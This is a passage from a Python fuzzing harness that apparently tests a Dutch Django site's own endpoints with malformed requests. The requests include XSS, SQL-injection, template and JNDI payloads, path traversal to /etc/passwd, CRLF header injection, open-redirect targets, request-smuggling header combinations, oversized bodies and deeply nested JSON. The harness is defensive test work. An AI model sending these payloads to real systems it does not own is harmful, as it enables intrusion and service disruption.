            ("sessionid invalid utf-8", b"sessionid=\xff\xff"),
            ("messages cookie garbage", "messages=" + "x" * 100),
            ("messages forged", 'messages="W1siX19qc29uX21lc3NhZ2UiXV0:1:abc"'),
            ("cookie hostile", f"csrftoken={quoted(XSS)}; x={quoted(SQLI)}"),
        ]
        for url in urls:
            for label, cookie in cookie_sets:
                self.send(g, f"{label} {url}", "GET", url, [("Cookie", cookie)])
        for label, cookie in cookie_sets:
            self.form_post(g, f"POST feedback with {label}", "/feedback/", {"kind": "general", "comment": "x"},
                           headers=[("Cookie", cookie)] if isinstance(cookie, str) else [], csrf=False)  # fmt: skip
        for charset in ("utf-8", "rot13", "undefined", "idna", "utf-16"):
            for url in ("/", "/api/wegwijzer/", "/wegwijzer/advies/"):
                self.send(g, f"201 query params with charset={charset} {url}", "GET", url + "?" + "a=1&" * 201,
                          [("Content-Type", f"text/plain; charset={charset}")])  # fmt: skip
                self.send(g, f"invalid UTF-8 query with charset={charset} {url}", "GET", url + "?q1=%FF%FE",
                          [("Content-Type", f"text/plain; charset={charset}")])  # fmt: skip
        self.send(
            g, "cookie header 20 KB (gunicorn header limit)", "GET", "/", [("Cookie", "a=" + "b" * 20_000)]
        )
        odd_headers: list[tuple[str, list[tuple[str | bytes, str | bytes]]]] = [
            ("XFF garbage", [("X-Forwarded-For", "not-an-ip, ,,, \u00e9".encode())]),
            ("XFF long", [("X-Forwarded-For", ", ".join(["1.2.3.4"] * 500))]),
            ("XFF hostile", [("X-Forwarded-For", SQLI + XSS)]),
            ("XFF invalid UTF-8", [("X-Forwarded-For", b"\xff\xfe")]),
            ("X-Forwarded-Proto https", [("X-Forwarded-Proto", "https")]),
            ("X-Forwarded-Proto garbage", [("X-Forwarded-Proto", "https, http, \xff")]),
            ("X-Forwarded-Port garbage", [("X-Forwarded-Port", "abc")]),
            ("X-Real-IP garbage", [("X-Real-IP", XSS)]),
            ("X-Request-ID hostile", [("X-Request-ID", XSS)]),
            ("X-Request-ID long", [("X-Request-ID", "a" * 5000)]),
            ("X-Request-ID invalid UTF-8", [("X-Request-ID", b"\xff\xfe" * 10)]),
            ("X-Request-ID CRLF-ish", [("X-Request-ID", "abc\\r\\nSet-Cookie: x=1")]),
            ("X-Request-ID empty", [("X-Request-ID", "")]),
            ("two X-Request-IDs", [("X-Request-ID", "aaaaaaaaaa"), ("X-Request-ID", "bbbbbbbbbb")]),
            ("Accept json", [("Accept", "application/json")]),
            ("Accept xml", [("Accept", "application/xml")]),
            ("Accept text/html on API", [("Accept", "text/html")]),
            ("Accept garbage", [("Accept", ";;;,,,/;q=abc, */*;q=-1, a/b;q=1e999")]),
            ("Accept long", [("Accept", ", ".join(f"type{i}/sub{i};q=0.{i % 10}" for i in range(300)))]),
            ("Accept invalid UTF-8", [("Accept", b"\xff/\xfe")]),
            ("Accept-Language garbage", [("Accept-Language", "zz-ZZ-x-" + "a" * 300 + ";q=abc, *;q=-1")]),
            ("Accept-Language long", [("Accept-Language", ",".join(["nl-NL;q=0.9"] * 500))]),
            ("Accept-Language hostile", [("Accept-Language", "../../../etc/passwd\x00")]),
            ("Accept-Encoding gzip", [("Accept-Encoding", "gzip, br, zstd, deflate")]),
            ("Accept-Encoding garbage", [("Accept-Encoding", "gzip;q=abc, *;q=-1, \xff")]),
            ("Range bytes=0-0", [("Range", "bytes=0-0")]),
            ("Range bytes=-1", [("Range", "bytes=-1")]),
            ("Range unsatisfiable", [("Range", "bytes=999999999-")]),
            ("Range many", [("Range", "bytes=" + ",".join(f"{i}-{i}" for i in range(1000)))]),
            ("Range garbage", [("Range", "bytes=abc-def")]),
            ("Range negative", [("Range", "bytes=-0")]),
            ("Range huge", [("Range", "bytes=0-99999999999999999999999")]),
            ("Range other unit", [("Range", "lines=0-1")]),
            ("If-None-Match garbage", [("If-None-Match", '"' + "x" * 5000)]),
            ("If-None-Match star", [("If-None-Match", "*")]),
            ("If-None-Match list", [("If-None-Match", ", ".join(['W/"a"'] * 500))]),
            ("If-Modified-Since garbage", [("If-Modified-Since", "yesterday at noon")]),
            ("If-Modified-Since far future", [("If-Modified-Since", "Fri, 31 Dec 99999 23:59:59 GMT")]),
            ("If-Modified-Since negative", [("If-Modified-Since", "Thu, 01 Jan -1970 00:00:00 GMT")]),
            ("If-Modified-Since overflow", [("If-Modified-Since", "Mon, 01 Jan 9999999999 00:00:00 GMT")]),
            ("If-Range garbage", [("If-Range", "garbage"), ("Range", "bytes=0-1")]),
            ("If-Match garbage", [("If-Match", "\x00")]),
            ("If-Unmodified-Since garbage", [("If-Unmodified-Since", "0")]),
            ("Authorization garbage", [("Authorization", "Basic " + "%" * 50)]),
            ("Authorization bearer", [("Authorization", "Bearer " + "a" * 3000)]),
            ("User-Agent long", [("User-Agent", "x" * 7000)]),
            ("User-Agent invalid UTF-8", [("User-Agent", b"\xff\xfe\x00")]),
            ("Referer garbage", [("Referer", "http://[::1/" + XSS)]),
            ("Origin garbage", [("Origin", "http://[")]),
            ("Content-Type charset rot13", [("Content-Type", "text/plain; charset=rot13")]),
            ("Content-Type charset undefined", [("Content-Type", "text/plain; charset=undefined")]),
            ("Content-Type charset idna", [("Content-Type", "text/plain; charset=idna")]),
            ("Content-Type charset utf-16", [("Content-Type", "text/plain; charset=utf-16")]),
            ("Content-Type charset bogus", [("Content-Type", "text/plain; charset=bogus")]),
            ("Content-Type charset utf-8", [("Content-Type", "text/plain; charset=utf-8")]),
            ("Content-Type garbage", [("Content-Type", ";;;=;charset")]),
            ("Content-Length on GET", [("Content-Length", "0")]),
            ("Expect 100-continue", [("Expect", "100-continue")]),
            ("Expect garbage", [("Expect", "200-ok")]),
            ("Upgrade websocket", [("Upgrade", "websocket"), ("Connection", "Upgrade")]),
            ("Upgrade h2c", [("Upgrade", "h2c"), ("HTTP2-Settings", "AAMAAABkAARAAAAAAAIAAAAA")]),
            ("Connection keep-alive", [("Connection", "keep-alive")]),
            ("Max-Forwards garbage", [("Max-Forwards", "-1")]),
            ("Cache-Control garbage", [("Cache-Control", "max-age=abc, no-cache=\xff")]),
            ("Pragma", [("Pragma", "no-cache")]),
            ("TE trailers", [("TE", "trailers, deflate;q=0.5")]),
            ("Forwarded garbage", [("Forwarded", 'for="[::1";proto=https;host=evil.example')]),
            ("Header with underscore", [("X_Forwarded_Proto", "https"), ("X_Request_ID", "injected-123")]),
            ("Header name invalid", [(b"X-\xffBad", "1")]),
            ("Header name with space", [(b"X Bad", "1")]),
            ("Header with obs-fold", [("X-Folded", "a\r\n b")]),
            ("Header with bare LF", [("X-LF", b"a\nX-Injected: 1")]),
            ("Header with bare CR", [("X-CR", b"a\rX-Injected: 1")]),
            ("Header with NUL", [("X-NUL", b"a\x00b")]),
            ("Header long value 8 KB", [("X-Long", "a" * 8190)]),
            ("Header long name", [("X-" + "a" * 8000, "1")]),
            ("101 headers", [(f"X-H{i}", str(i)) for i in range(101)]),
            ("header without colon", [(b"NoColonHere", b"")]),
        ]
        for url in urls:
            for label, headers in odd_headers:
                self.send(g, f"{label} {url}", "GET", url, headers)
        for label, headers in odd_headers[:14]:
            self.send(g, f"{label} results API with header", "POST", "/api/checklist/results/",
                      [*headers, ("Content-Type", "application/json")], b'{"scores": {"1.1": 3}}')  # fmt: skip
        # A cached advice page must not hand out another visitor's CSRF token, whatever the cookie.
        for label, cookie in cookie_sets[6:14]:
            self.send(g, f"cached advice with {label}", "GET", "/wegwijzer/advies/?q1=2&q2=2&q3=2&q4=2&q5=1",
                      [("Cookie", cookie)])  # fmt: skip

    # Bodies to every POST endpoint: form, multipart and JSON variants, encodings, lengths.
    def post_targets(self) -> list[str]:
        targets = ["/feedback/", "/feedback/opmerking/", "/checklist/resultaat/", "/checklist/opslaan/",
                   "/api/checklist/results/", "/api/feedback/", "/admin/login/"]  # fmt: skip
        if self.measurement_token:
            targets.append(f"/checklist/meting/{'B' * 32}/verwijderen/")
            targets.append(f"/checklist/reeks/{self.series_token}/nieuw/")
        return targets

    def g_bodies(self) -> None:
        g = "body"
        csrf_field = f"csrfmiddlewaretoken={self.csrf_token}".encode()
        boundary = "----hp" + secrets.token_hex(8)

        def multipart(parts: list[tuple[bytes, bytes]], bnd: str = boundary, tail: bool = True) -> bytes:
            out = b""
            for disposition, value in parts:
                out += b"--" + bnd.encode() + b"\r\n" + disposition + b"\r\n\r\n" + value + b"\r\n"
            return out + (b"--" + bnd.encode() + b"--\r\n" if tail else b"")

        def field_part(name: bytes, value: bytes) -> tuple[bytes, bytes]:
            return (b'Content-Disposition: form-data; name="' + name + b'"', value)

        csrf_part = field_part(b"csrfmiddlewaretoken", self.csrf_token.encode())
        forms: list[tuple[str, str, bytes]] = [
            ("form invalid UTF-8", "application/x-www-form-urlencoded",
             b"kind=general&comment=\xff\xfe\xc0\xae&score-1.1=\xff&" + csrf_field),
            ("form invalid UTF-8 keys", "application/x-www-form-urlencoded", b"\xff\xfe=1&%FF=2&" + csrf_field),
            ("form percent garbage", "application/x-www-form-urlencoded", b"kind=%&comment=%ZZ%C0%AE%00&" + csrf_field),
            ("form NUL", "application/x-www-form-urlencoded", b"kind=general&comment=a%00b\x00c&" + csrf_field),
            ("form 201 fields", "application/x-www-form-urlencoded", b"a=1&" * 201 + csrf_field),
            ("form 10k fields", "application/x-www-form-urlencoded", b"a=1&" * 10_000 + csrf_field),
            ("form 100 KB value", "application/x-www-form-urlencoded", b"comment=" + b"a" * 100_000 + b"&" + csrf_field),
            ("form 60 KB value", "application/x-www-form-urlencoded", b"kind=general&comment=" + b"a" * 60_000 + b"&" + csrf_field),
            ("form separators", "application/x-www-form-urlencoded", b"kind=general;comment=x;&&==&" + csrf_field),
            ("form charset rot13", "application/x-www-form-urlencoded; charset=rot13", b"kind=general&comment=x&" + csrf_field),
            ("form charset undefined", "application/x-www-form-urlencoded; charset=undefined", b"kind=general&" + csrf_field),
            ("form charset idna", "application/x-www-form-urlencoded; charset=idna", b"kind=general&comment=%FF&" + csrf_field),
            ("form charset utf-16", "application/x-www-form-urlencoded; charset=utf-16", b"kind=general&" + csrf_field),
            ("form charset utf-7", "application/x-www-form-urlencoded; charset=utf-7", b"kind=general&comment=+AGEAYgBj-&" + csrf_field),
            ("form charset bogus", "application/x-www-form-urlencoded; charset=bogus", b"kind=general&" + csrf_field),
            ("form charset zlib", "application/x-www-form-urlencoded; charset=zlib_codec", b"kind=general&" + csrf_field),
            ("form as text/plain", "text/plain", b"kind=general&comment=x&" + csrf_field),
            ("form without content type", "", b"kind=general&comment=x&" + csrf_field),
            ("multipart valid", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, field_part(b"kind", b"general"), field_part(b"comment", b"hallo")])),
            ("multipart invalid UTF-8", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, field_part(b"k\xffind", b"gen\xfferal"), field_part(b"comment", b"\xc0\xae\xff")])),
            ("multipart no boundary", "multipart/form-data", multipart([csrf_part])),
            ("multipart empty boundary", "multipart/form-data; boundary=", multipart([csrf_part])),
            ("multipart wrong boundary", "multipart/form-data; boundary=other", multipart([csrf_part])),
            ("multipart boundary 200 chars", "multipart/form-data; boundary=" + "b" * 200,
             multipart([csrf_part], "b" * 200)),
            ("multipart boundary invalid chars", "multipart/form-data; boundary=\xff\x00", multipart([csrf_part])),
            ("multipart unterminated", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, field_part(b"comment", b"x")], tail=False)),
            ("multipart truncated header", f"multipart/form-data; boundary={boundary}",
             b"--" + boundary.encode() + b"\r\nContent-Disposition: form-da"),
            ("multipart garbage", f"multipart/form-data; boundary={boundary}", b"\x00\xff" * 500),
            ("multipart 300 parts", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part] + [field_part(f"f{i}".encode(), b"1") for i in range(300)])),
            ("multipart file upload", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, (b'Content-Disposition: form-data; name="f"; filename="../../x.py"\r\n'
                                    b"Content-Type: text/x-python", b"say(1)\n" * 100)])),
            ("multipart 1001 files", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part] + [(f'Content-Disposition: form-data; name="f{i}"; filename="a"'.encode(), b"x")
                                      for i in range(1001)])),
            ("multipart base64 transfer", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, (b'Content-Disposition: form-data; name="comment"\r\n'
                                    b"Content-Transfer-Encoding: base64", b"!!!not base64!!!")])),
            ("multipart part charset rot13", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, (b'Content-Disposition: form-data; name="comment"\r\n'
                                    b"Content-Type: text/plain; charset=rot13", b"abc")])),
            ("multipart charset rot13", f"multipart/form-data; boundary={boundary}; charset=rot13",
             multipart([csrf_part, field_part(b"comment", b"abc")])),
            ("multipart name with quotes", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, (b'Content-Disposition: form-data; name="a\\"b"; name*=UTF-8\'\'%FF', b"1")])),
            ("multipart disposition garbage", f"multipart/form-data; boundary={boundary}",
             multipart([csrf_part, (b"Content-Disposition: ;;;==", b"1")])),
        ]  # fmt: skip
        jsons: list[tuple[str, str, bytes]] = [
            ("JSON array", "application/json", b"[1, 2, 3]"),
            ("JSON null", "application/json", b"null"),
            ("JSON string", "application/json", b'"scores"'),
            ("JSON number", "application/json", b"1e999"),
            ("JSON empty", "application/json", b""),
            ("JSON whitespace", "application/json", b"   \n"),
            ("JSON deep arrays 10k", "application/json", b"[" * 10_000 + b"]" * 10_000),
            ("JSON deep objects 10k", "application/json", b'{"a":' * 10_000 + b"1" + b"}" * 10_000),
            ("JSON deep in scores", "application/json", b'{"scores": {"1.1": ' + b"[" * 5000 + b"]" * 5000 + b"}}"),
            ("JSON deep 900", "application/json", b"[" * 900 + b"]" * 900),
            ("JSON huge int", "application/json", b'{"scores": {"1.1": ' + b"9" * 5000 + b"}}"),
            ("JSON huge float", "application/json", b'{"scores": {"1.1": 1e999}, "id": 1e999}'),
            ("JSON NaN", "application/json", b'{"scores": {"1.1": NaN}, "id": NaN, "helpful": NaN}'),
            ("JSON Infinity", "application/json", b'{"scores": {"1.1": Infinity}, "id": -Infinity}'),
            ("JSON duplicate keys", "application/json", b'{"scores": {"1.1": 3, "1.1": 9}, "scores": {"1.1": 2}}'),
            ("JSON lone surrogate value", "application/json", b'{"scores": {"1.1": "\\ud800"}, "kind": "general", "comment": "\\ud800", "tool": "wegwijzer"}'),
            ("JSON lone surrogate key", "application/json", b'{"scores": {"\\udfff": 3}, "\\ud800": 1}'),
            ("JSON NUL escape", "application/json", b'{"scores": {"1.1\\u0000": 3}, "kind": "general\\u0000", "comment": "a\\u0000b"}'),
            ("JSON invalid UTF-8", "application/json", b'{"scores": {"1.1": "\xff"}, "kind": "general", "comment": "\xc0\xae"}'),
            ("JSON UTF-8 BOM", "application/json", b'\xef\xbb\xbf{"scores": {"1.1": 3}}'),
            ("JSON UTF-16", "application/json; charset=utf-16", '{"scores": {"1.1": 3}}'.encode("utf-16")),
            ("JSON UTF-16 undeclared", "application/json", '{"scores": {"1.1": 3}}'.encode("utf-16")),
            ("JSON charset rot13", "application/json; charset=rot13", b'{"scores": {"1.1": 3}}'),
            ("JSON charset undefined", "application/json; charset=undefined", b'{"scores": {"1.1": 3}}'),
            ("JSON charset bogus", "application/json; charset=bogus", b'{"scores": {"1.1": 3}}'),
            ("JSON charset hex", "application/json; charset=hex", b"7b7d"),
            ("JSON charset base64", "application/json; charset=base64", b"e30="),
            ("JSON charset zlib", "application/json; charset=zlib", zlib.compress(b'{"scores": {}}')),
            ("JSON charset bz2", "application/json; charset=bz2", b"BZh9garbage"),
            ("JSON charset uu", "application/json; charset=uu", b"begin 644 x\n"),
            ("JSON trailing garbage", "application/json", b'{"scores": {}} garbage'),
            ("JSON comments", "application/json", b'{"scores": {} /* x */}'),
            ("JSON single quotes", "application/json", b"{'scores': {}}"),
            ("JSON truncated", "application/json", b'{"scores": {"1.1": 3'),
            ("JSON 60 KB string", "application/json", b'{"comment": "' + b"a" * 60_000 + b'", "kind": "general"}'),
            ("JSON 100 KB string", "application/json", b'{"comment": "' + b"a" * 100_000 + b'", "kind": "general"}'),
            ("JSON 1 MB", "application/json", b'{"scores": {' + b'"1.1": 3, ' * 100_000 + b'"1.2": 1}}'),
            ("JSON 10k keys", "application/json", b'{"scores": {' + b", ".join(b'"k%d": 1' % i for i in range(10_000)) + b"}}"),
            ("JSON as text/plain", "text/plain", b'{"scores": {"1.1": 3}}'),
            ("JSON as form", "application/x-www-form-urlencoded", b'{"scores": {"1.1": 3}}'),
            ("JSON as xml", "application/xml", b"<scores><s>3</s></scores>"),
            ("JSON content type garbage", "application/json;;;charset", b'{"scores": {}}'),
            ("JSON vnd type", "application/vnd.api+json", b'{"scores": {}}'),
            ("JSON content type with NUL", "application/json\x00", b'{"scores": {}}'),
            ("JSON content type long", "application/json; " + "a=b; " * 1000, b'{"scores": {}}'),
        ]  # fmt: skip
        for target in self.post_targets():
            for label, content_type, body in forms + jsons:
                headers = [("Content-Type", content_type)] if content_type else []
                if "json" in content_type and self.csrf_token:
                    headers.append(("X-CSRFToken", self.csrf_token))
                self.send(g, f"{label} -> {target}", "POST", target, headers, body, csrf=True)
            # Content-Encoding the server does not support: the body is not what it says.
            for encoding, body in [
                ("gzip", b"\x1f\x8b\x08\x00garbage-not-gzip"),
                ("gzip", gzip.compress(b'{"scores": {"1.1": 3}}')),
                ("deflate", b"\x78\x9cgarbage"),
                ("br", b"\xce\xb2\xcf\x81"),
                ("gzip, gzip, identity, bogus", b'{"scores": {}}'),
            ]:
                self.send(g, f"Content-Encoding {encoding} -> {target}", "POST", target,
                          [("Content-Type", "application/json"), ("Content-Encoding", encoding),
                           ("X-CSRFToken", self.csrf_token)], body, csrf=True)  # fmt: skip
            # Chunked transfer encoding with bad chunk sizes.
            for label, raw in [
                ("chunked valid", b'9\r\n{"a": 1}\r\n0\r\n\r\n'),
                ("chunked size not hex", b"zz\r\n{}\r\n0\r\n\r\n"),
                ("chunked size negative", b"-5\r\n{}\r\n0\r\n\r\n"),
                ("chunked size huge", b"ffffffffffffffffffff\r\n{}\r\n0\r\n\r\n"),
                ("chunked size too big", b"100\r\n{}\r\n0\r\n\r\n"),
                ("chunked size too small", b"1\r\n{}\r\n0\r\n\r\n"),
                ("chunked no terminator", b"2\r\n{}\r\n"),
                ("chunked extension garbage", b"2;\xff=\x00\r\n{}\r\n0\r\n\r\n"),
                ("chunked bare LF", b"2\n{}\n0\n\n"),
                ("chunked trailer garbage", b"2\r\n{}\r\n0\r\nX-\xff: \x00\r\n\r\n"),
                ("chunked empty", b"0\r\n\r\n"),
                ("chunked whitespace size", b" 2 \r\n{}\r\n0\r\n\r\n"),
            ]:
                self.send(g, f"{label} -> {target}", "POST", target,
                          [("Content-Type", "application/json"), ("Transfer-Encoding", "chunked"),
                           ("X-CSRFToken", self.csrf_token)], raw, content_length=None, csrf=True,
                          timeout=8)  # fmt: skip
            for te in [
                "chunked, identity",
                "identity",
                "gzip, chunked",
                "Chunked",
                "chunked\x00",
                "xchunked",
            ]:
                # RFC 9112 section 6.1: an unknown transfer coding gets 501 Not Implemented.
                self.send(g, f"Transfer-Encoding {te!r} -> {target}", "POST", target,
                          [("Content-Type", "application/json"), ("Transfer-Encoding", te)],
                          b"2\r\n{}\r\n0\r\n\r\n", content_length=None, timeout=8, allow=(501,))  # fmt: skip
            self.send(g, f"chunked and Content-Length -> {target}", "POST", target,
                      [("Content-Type", "application/json"), ("Transfer-Encoding", "chunked"),
                       ("Content-Length", "4")], b"2\r\n{}\r\n0\r\n\r\n", content_length=None, timeout=8)  # fmt: skip
            # Content-Length that lies.
            body = b'{"scores": {"1.1": 3}}'
            cases: list[tuple[str, str, dict[str, Any]]] = [
                ("CL short", "5", {}),
                ("CL zero with body", "0", {}),
                ("CL negative", "-1", {}),
                ("CL non-numeric", "abc", {}),
                ("CL hex", "0x10", {}),
                ("CL with plus", "+22", {}),
                ("CL huge", "99999999999999999999999", {"timeout": 6}),
                ("CL two values", "22, 22", {}),
                ("CL long then half-close", "1000", {"half_close": True, "timeout": 8}),
            ]
            for label, length, kw in cases:
                self.send(g, f"{label} -> {target}", "POST", target,
                          [("Content-Type", "application/json"), ("X-CSRFToken", self.csrf_token)],
                          body, content_length=length, csrf=True, **kw)  # fmt: skip
            self.send(g, f"two Content-Length headers -> {target}", "POST", target,
                      [("Content-Type", "application/json"), ("Content-Length", "22"), ("Content-Length", "5")],
                      body, content_length=None)  # fmt: skip
            # 20 MB bodies: form, JSON and multipart.
            big = 20 * 1024 * 1024
            for label, content_type, piece in [
                ("20 MB form", "application/x-www-form-urlencoded", b"comment=" + b"a" * 65528),
                ("20 MB JSON", "application/json", b" " * 65536),
                ("20 MB multipart", f"multipart/form-data; boundary={boundary}", b"a" * 65536),
            ]:
                pieces = [piece] + [b"a" * 65536 if b"comment" in piece else piece] * (big // 65536 - 1)
                self.send(g, f"{label} -> {target}", "POST", target,
                          [("Content-Type", content_type), ("X-CSRFToken", self.csrf_token)],
                          pieces, content_length=str(sum(len(p) for p in pieces)), csrf=True,
                          timeout=30)  # fmt: skip

    def g_json_api(self) -> None:
        g = "json-api"
        url = "/api/checklist/results/"
        key = self.statement_keys[0]
        values = ["0", "5", "-1", '"3"', "3.0", "true", "false", "null", "100000000000000000000", '" 3 "',
                  '"\\uff13"', '"\\u0663"', '"3\\u0000"', "[3]", '{"a": 3}', "3.5", "1e0", '"0x3"', '"+3"',
                  '"3 "', '""', '"١"', '"²"', '"<script>"', '"' + SQLI + '"', "-0", "4E0", '"4\\n"']  # fmt: skip
        for value in values:
            self.json_post(g, f"score {value}", url, f'{{"scores": {{"{key}": {value}}}}}'.encode())
        for raw in [
            b'{"scores": {"9.9": 3}}',
            b'{"scores": {"<script>": 3}}',
            b'{"scores": {"": 3}}',
            b'{"scores": {"1.1.1": 3}}',
            b'{"scores": {" 1.1": 3}}',
            b'{"scores": {"1,1": 3}}',
            b'{"scores": {"' + b"x" * 5000 + b'": 3}}',
            b'{"scores": {' + b", ".join(b'"%d.%d": 3' % (i // 50, i % 50) for i in range(1000)) + b"}}",
            b'{"scores": {' + b", ".join(b'"%s": 3' % k.encode() for k in self.statement_keys) + b"}}",
            b'{"scores": {' + b", ".join(b'"%s": 5' % k.encode() for k in self.statement_keys) + b"}}",
            b'{"scores": {}, "extra": ' + b"[1]" * 1 + b"}",
            b'{"scores": []}',
            b'{"scores": null}',
            b'{"scores": "1.1=3"}',
            b'{"scores": 3}',
            b'{"Scores": {"1.1": 3}}',
            b"{}",
            b'{"scores": {"1.1": 3}, "__proto__": {"admin": true}}',
            b'{"scores": {"constructor": 3}}',
        ]:
            self.json_post(g, f"scores {raw[:50]!r}", url, raw)
        fb = "/api/feedback/"
        tip = self.item_ids.get("tip", 1)
        cell = self.item_ids.get("tip-cell", "Fa")
        base: dict[str, Any] = {"kind": "tip", "id": tip, "helpful": True, "cell": cell}
        variants: list[tuple[str, Any]] = [
            ("kind", v) for v in _mixed(["TIP", "Tip ", "general", "x" * 100, "", None, 1, [], {}, "tip\u0000", XSS])
        ] + [
            ("id", v) for v in [-1, 0, 99999999999999999999, 2**63, 2**63 - 1, 1.5, "abc", "1", " 1 ", "١", True,
                                None, [], {}, "9223372036854775807", "1e3", "0x1", "+1", "-0", 1e308]
        ] + [
            ("helpful", v) for v in ["ja", "nee", "JA", "maybe", 1, 0, 2, None, "", [], "true", "\u0000"]
        ] + [
            ("cell", v) for v in ["S32", "Fa", "2.1", "Z9", "x" * 30, XSS, 1, [], "S32\n", "Fa\u0000"]
        ] + [
            ("context", v) for v in ["q1=2&q3=1", "q1=2&1.1=3", "q1=9", "q1=1&q1=2", "a" * 600, "&" * 100,
                                     {"q1": 2}, {"q1": [1]}, {"1.1": 3}, {f"q{i}": 1 for i in range(100)},
                                     [1, 2], 5, "?q1=2", "q1=2&=&q2=", "1.1=3&" * 61]
        ] + [
            ("comment", v) for v in ["x" * 1001, "x" * 1000, "a\u0000b", "a\u0007b", "\ud800", 1, [], "\r\n" * 600,
                                     XSS, SQLI, SSTI, JNDI, "\u202e", "\U0001f4a9" * 1000]
        ] + [
            ("tool", v) for v in ["checklist", "WEGWIJZER", "other", 1, "", None]
        ] + [
            ("page", v) for v in ["/x", "//evil.example", "http://evil.example/", "x", "/" + "a" * 400,
                                  "/a\u0000", "/\ud800", "/?q=1#x", 1, XSS]
        ]  # fmt: skip
        for name, value in variants:
            payload = {**base, name: value}
            try:
                raw = json.dumps(payload).encode()
            except ValueError:
                continue
            self.json_post(g, f"feedback {name}={str(value)[:30]!r}", fb, raw)
        self.json_post(g, "feedback general with lone surrogate comment", fb,
                       b'{"kind": "general", "comment": "\\ud800", "tool": "wegwijzer"}')  # fmt: skip
        self.json_post(g, "feedback tip with lone surrogate page", fb,
                       b'{"kind": "tip", "id": %d, "helpful": true, "page": "/\\udc80"}' % int(tip))  # fmt: skip
        for field_name in ("context", "cell", "kind", "tool", "helpful", "id"):
            self.json_post(g, f"feedback lone surrogate in {field_name}", fb,
                           b'{"kind": "general", "comment": "x", "%s": "\\ud800"}' % field_name.encode())  # fmt: skip
        for depth in (100, 900, 5000):
            nested = b"[" * depth + b"]" * depth
            self.json_post(
                g, f"score nested {depth} deep", url, b'{"scores": {"%s": %s}}' % (key.encode(), nested)
            )
            self.json_post(g, f"feedback context nested {depth} deep", fb,
                           b'{"kind": "general", "comment": "x", "context": {"q1": %s}}' % nested)  # fmt: skip
        self.json_post(g, "feedback general with id", fb, b'{"kind": "general", "id": 1, "comment": "x"}')
        self.json_post(
            g, "feedback general with NaN id", fb, b'{"kind": "general", "id": NaN, "comment": "x"}'
        )
        self.json_post(g, "feedback id Infinity", fb, b'{"kind": "tip", "id": Infinity, "helpful": true}')
        self.json_post(
            g, "feedback 10**5000 id", fb, b'{"kind": "tip", "id": ' + b"9" * 5000 + b', "helpful": true}'
        )
        for kind in ["example", "reference"]:
            if kind in self.item_ids:
                self.json_post(g, f"feedback {kind}", fb, json.dumps(
                    {"kind": kind, "id": self.item_ids[kind], "helpful": False}).encode())  # fmt: skip
        self.json_post(g, "advice API as POST", "/api/wegwijzer/advice/?q1=1", b"{}")

    def g_feedback_forms(self) -> None:
        g = "feedback-form"
        tip = str(self.item_ids.get("tip", 1))
        cell = str(self.item_ids.get("tip-cell", "Fa"))
        base = {"kind": "tip", "id": tip, "helpful": "ja", "cell": cell, "context": "q1=2&q2=2",
                "next": "/wegwijzer/advies/?q1=2&q2=2", "page": "/wegwijzer/advies/", "anchor": f"{cell}-tip-{tip}"}  # fmt: skip
        weird = ["-1", "0", "99999999999999999999", "1.5", "abc", "", " ", "\u0661", XSS, SQLI, SSTI, JNDI,
                 "a" * 5000, "%00", "\x00", "\x07", "\u202e", "ja\nnee"]  # fmt: skip
        fields = [
            "kind",
            "id",
            "cell",
            "context",
            "next",
            "anchor",
            "helpful",
            "comment",
            "page",
            "tool",
            "website",
        ]
        for accept in ["text/html", "application/json"]:
            for name in fields:
                for value in weird:
                    self.form_post(g, f"{accept} {name}={value[:20]!r}", "/feedback/", {**base, name: value},
                                   headers=[("Accept", accept)])  # fmt: skip
            for nxt in ["//evil.example/", "/\\evil.example", "http://evil.example/", "javascript:alert(1)",
                        "/x?" + "a&" * 600, "/x?" + "a=1&" * 250, "/x#" + "a" * 100, "/" + "a" * 2001,
                        "/x?bedankt=1&reactie=2", "/%FF", "/x\r\nSet-Cookie: a=1", "/x?" + "%" * 50,
                        "/\u00e9?\u00e9=\u00e9", "/x?q=1#frag", "\x00/", " /x", "/x?a=%FF%FE"]:  # fmt: skip
                self.form_post(g, f"{accept} next={nxt[:30]!r}", "/feedback/", {**base, "next": nxt},
                               headers=[("Accept", accept)])  # fmt: skip
                self.form_post(g, f"{accept} general next={nxt[:30]!r}", "/feedback/",
                               {"kind": "general", "comment": "Goed", "next": nxt}, headers=[("Accept", accept)])  # fmt: skip
            ok = (302,) if accept == "text/html" else (200, 201)
            for count in (150, 250, 600):
                self.form_post(g, f"{accept} general with a {count}-parameter return URL", "/feedback/",
                               {"kind": "general", "comment": f"Lange terugweg {count} {accept}",
                                "next": "/wegwijzer/?" + "a&" * count}, headers=[("Accept", accept)],
                               expect=ok)  # fmt: skip
            self.form_post(g, f"{accept} duplicated fields", "/feedback/",
                           [*base.items(), ("kind", "general"), ("id", "2"), ("helpful", "nee")],
                           headers=[("Accept", accept)])  # fmt: skip
            self.form_post(g, f"{accept} general with id", "/feedback/", {"kind": "general", "id": "1", "comment": "x"},
                           headers=[("Accept", accept)])  # fmt: skip
            self.form_post(g, f"{accept} honeypot", "/feedback/", {**base, "website": "http://spam"},
                           headers=[("Accept", accept)])  # fmt: skip
            self.form_post(
                g, f"{accept} no CSRF", "/feedback/", base, headers=[("Accept", accept)], csrf=False
            )
            self.form_post(g, f"{accept} wrong CSRF token", "/feedback/",
                           {**base, "csrfmiddlewaretoken": "x" * 64}, headers=[("Accept", accept)], csrf=False)  # fmt: skip
            # The comment form: forged, expired-looking, long and odd tokens.
            tokens = ["", "x", "a:b:c", "1:abc:def", "eyJ:1abc:sig", XSS, "a" * 5000, "%FF", "\x00",
                      ".eJwzNDQ0AAACdwDM:1vxyz:" + "A" * 43, "1" * 30,
                      (self.comment_token[:-2] + "xx") if self.comment_token else "AA:BB:CC"]  # fmt: skip
            for token in tokens:
                for comment in ["Dit miste ik.", "", "x" * 1001, "a\u0000b"]:
                    self.form_post(g, f"{accept} comment token={token[:20]!r} comment={comment[:10]!r}",
                                   "/feedback/opmerking/",
                                   {"token": token, "comment": comment, "next": "/wegwijzer/", "anchor": "x"},
                                   headers=[("Accept", accept)])  # fmt: skip
            if self.comment_token:
                for comment in ["Echte opmerking", "x" * 1001, "\x07", XSS, ""]:
